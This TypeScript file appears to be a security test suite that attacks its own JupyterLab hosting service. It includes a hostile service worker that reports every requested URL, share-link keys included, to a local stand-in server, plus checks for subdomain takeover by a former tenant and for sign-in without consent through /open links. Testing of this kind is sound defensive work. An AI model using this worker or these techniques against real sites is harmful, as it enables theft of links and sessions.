import { randomBytes } from "node:crypto";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { type BrowserContext, chromium, type Page } from "@playwright/test";
import { storeSession } from "../../e2e/testing/test.ts";
import { browserPath } from "../../testing/browser.ts";
import { must, orderBody, send, signUp, until } from "../../testing/customer.ts";
import { environment } from "../../testing/environment.ts";
import { type Attack, end, type Rental, rent, type Target } from "./attack.ts";

/** Tells its maker of every request that it sees. */
const worker = `self.addEventListener("fetch", (event) => event.respondWith(
  fetch("/seen?" + encodeURIComponent(event.request.url)).then(() => fetch(event.request))))`;

/** Attacks by what was at an address before: its pages in others' browsers, and links to the app. */
export const formerTenant: readonly Attack[] = [
  {
    name: "31 a service worker of a former tenant, at the next owner's sign-ins and share links",
    async run(target) {
      const { url } = target.product;
      await using evil = await evilServer();
      await using browser = await openBrowser();
      const rental = await rent(target);
      const { page } = browser;
      await enterByLink(target, rental, page, evil.port);
      const scripts = ["/worker.js", "/_berth/worker.js", "/files/worker.js", "/lab/worker.js"];
      const scopes = ["/", "/_berth/", "/lab", undefined];
      const covering: string[] = [];
      for (const script of scripts)
        for (const scope of scopes) {
          const registered: string = await page.evaluate(
            `navigator.serviceWorker.register(${JSON.stringify(script)}, ${JSON.stringify({ scope })}).then((it) => it.scope, () => "")`,
          );
          if (registered !== "" && "/_berth/".startsWith(new URL(registered).pathname))
            covering.push(`${script} covers ${new URL(registered).pathname}`);
        }
      const key = await enterByLink(target, rental, page, evil.port);
      const seen = evil.seen.some((address) => address.includes(key)) ? ["the key of a share link was seen"] : [];
      await end(target, rental);
      await until("the environment to end", () => hasEnded(target, rental));
      const { idToken: token } = rental.customer;
      await must(url, "POST", `/environments/${rental.id}/delete_files`, {
        token,
        body: { confirm: rental.subdomain },
      });
      await until("the files to be gone", async () => {
        const names = target.db.selectFrom("subdomain_claims").selectAll().where("name", "=", rental.subdomain);
        return (await names.execute()).length === 0;
      });
      const victim = await signUp(url);
      const body = orderBody(victim, { subdomain: rental.subdomain, gpuCount: 1 });
      const { status } = await send(url, "POST", "/docker/payments/create_order", { token: victim.idToken, body });
      const renamed = status === 200 ? ["another account gets the name at once"] : [];
      return { tries: scripts.length * scopes.length + 2, successes: [...covering, ...seen, ...renamed] };
    },
  },
  {
    name: "32 a sign-in that nobody asked for, by a link to /open",
    async run(target) {
      const { url } = target.product;
      await using evil = await evilServer();
      await using browser = await openBrowser();
      const [rental, lure] = [await rent(target), await rent(target)];
      await storeSession(browser.context, url, rental.customer);
      const visit = randomBytes(32).toString("base64url");
      const open = `${url}/open?${new URLSearchParams({ environment: rental.subdomain, path: "/lab", visit })}`;
      const successes: string[] = [];
      const { page } = browser;
      const leadThere = {
        "an address": () => page.goto(open),
        "a page of another environment": async () => {
          await enterByLink(target, lure, page, evil.port);
          await page.evaluate(`location.href = ${JSON.stringify(open)}`);
        },
      };
      for (const [way, lead] of Object.entries(leadThere)) {
        await lead();
        const asked = page.getByRole("button", { name: `Open ${rental.subdomain}` });
        await asked.waitFor().catch(() => successes.push(`${way}: nobody was asked`));
        const codes = target.db.selectFrom("sign_in_codes").selectAll().where("environment_id", "=", rental.id);
        if ((await codes.execute()).length > 0) successes.push(`${way}: a code was made`);
      }
      await Promise.all([rental, lure].map((each) => end(target, each)));
      return { tries: Object.keys(leadThere).length, successes };
    },
  },
];

/** What a tenant may run in the place of JupyterLab; `seen` are the addresses that its worker told. */
async function evilServer() {
  const seen: string[] = [];
  const server = createServer(({ url = "" }, response) => {
    if (url.startsWith("/seen?")) seen.push(decodeURIComponent(url.slice(6)));
    response.setHeader("service-worker-allowed", "/");
    response.setHeader("content-type", url.endsWith(".js") ? "text/javascript" : "text/html");
    response.end(url.endsWith(".js") ? worker : "<!doctype html><title>notebook</title>");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const close = async () => {
    server.closeAllConnections();
    server.close();
  };
  return { port: (server.address() as AddressInfo).port, seen, [Symbol.asyncDispose]: close };
}

async function openBrowser(): Promise<{ context: BrowserContext; page: Page } & AsyncDisposable> {
  const browser = await chromium.launch({
    executablePath: environment.chromium ?? browserPath(),
    args: ["--no-sandbox", "--disable-gpu", "--in-process-gpu"],
  });
  const context = await browser.newContext();
  return { context, page: await context.newPage(), [Symbol.asyncDispose]: () => browser.close() };
}

async function serveBy({ db }: Target, { id }: Rental, port: number): Promise<void> {
  const endpoint = JSON.stringify({ host: "127.0.0.1", port });
  await db.updateTable("environments").set({ endpoint }).where("id", "=", id).execute();
}

/** As a guest with a share link, of what serves at `port` in the place of JupyterLab; returns the link's key. */
async function enterByLink(target: Target, rental: Rental, page: Page, port: number): Promise<string> {
  const { url } = await must(target.product.url, "POST", `/environments/${rental.id}/share`, {
    token: rental.customer.idToken,
    body: { term: "1h" },
  });
  await until("the tenant's page", async () => {
    // At its next look the reconciler writes the run's own endpoint back.
    await serveBy(target, rental, port);
    await page.goto(url);
    const button = page.getByRole("button", { name: "Open JupyterLab" });
    if (await button.isVisible()) await button.click();
    const shown = page.waitForFunction('document.title === "notebook"', undefined, { timeout: 10_000 });
    return await shown.then(
      () => true,
      () => false,
    );
  });
  return new URL(url).searchParams.get("key") as string;
}

async function hasEnded({ db }: Target, { id }: Rental): Promise<boolean> {
  const row = await db.selectFrom("environments").select("status").where("id", "=", id).executeTakeFirstOrThrow();
  return row.status === "terminated";
}
